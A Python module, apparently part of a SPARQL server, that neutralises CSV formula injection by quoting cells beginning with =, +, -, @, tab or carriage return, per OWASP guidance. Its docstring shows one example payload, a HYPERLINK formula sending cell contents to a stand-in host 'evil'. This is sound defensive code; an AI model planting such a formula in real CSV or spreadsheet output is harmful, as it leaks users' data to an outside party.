"""CSV answers made safe to open in a spreadsheet (OWASP, "CSV Injection").

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) as a formula: a title such as ``=HYPERLINK("http://evil/?"&A1)`` in the
graph would run on the librarian's machine. Following OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell gets a leading single
quote, which spreadsheets show as text and do not run. Numbers (``-3``, ``+1.5e3``) cannot be
formulas and are left as they are. The answer stays RFC 4180 CSV as the SPARQL 1.1 CSV results
format describes (https://www.w3.org/TR/sparql11-results-csv-tsv/); a client that needs the
values exactly asks for them (``csv=exact`` on the server, ``--exact-csv`` on the command line).
"""

from __future__ import annotations

import csv
import io
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def risky(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and NUMBER.fullmatch(cell) is None


def guard(body: bytes) -> bytes:
    """The CSV ``body`` with every risky cell (not the header) quoted with a leading ``'``;
    ``body`` itself when no cell is risky."""
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    if not any(risky(cell) for row in rows[1:] for cell in row):
        return body
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(rows[0])
    writer.writerows([f"'{cell}" if risky(cell) else cell for cell in row] for row in rows[1:])
    return out.getvalue().encode("utf-8")
